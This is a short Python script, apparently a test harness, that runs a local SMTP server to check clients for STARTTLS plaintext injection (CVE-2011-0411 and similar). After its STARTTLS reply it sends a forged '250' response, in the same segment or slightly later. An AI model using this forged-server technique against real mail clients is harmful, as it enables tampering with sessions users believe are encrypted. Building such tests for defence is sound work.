"""An SMTP server that injects plaintext after its STARTTLS reply (CVE-2011-0411 and kin).

    python3 smtp_injector.py PORT same|later

Answers EHLO with STARTTLS on offer; to STARTTLS it sends "220" and then a forged "250",
either in the same segment (same) or a moment later (later), before any TLS. A client that
reads the forged reply as if it came over TLS is injectable. Prints "ready" once listening.
"""
import socket
import sys
import time

port, mode = int(sys.argv[1]), sys.argv[2]
server = socket.socket()
server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
server.bind(("127.0.0.1", port))
server.listen(4)
print("ready", flush=True)
while True:
    conn, _ = server.accept()
    conn.sendall(b"220 injector ESMTP\r\n")
    data = b""
    while True:
        chunk = conn.recv(4096)
        if not chunk:
            break
        data += chunk
        while b"\r\n" in data:
            line, data = data.split(b"\r\n", 1)
            verb = line.split(b" ")[0].upper()
            if verb == b"EHLO":
                conn.sendall(b"250-injector\r\n250 STARTTLS\r\n")
            elif verb == b"STARTTLS":
                if mode == "same":
                    conn.sendall(b"220 2.0.0 go ahead\r\n250 2.0.0 injected\r\n")
                else:
                    conn.sendall(b"220 2.0.0 go ahead\r\n")
                    time.sleep(0.05)
                    conn.sendall(b"250 2.0.0 injected\r\n")
            else:
                conn.sendall(b"250 ok\r\n")
    conn.close()
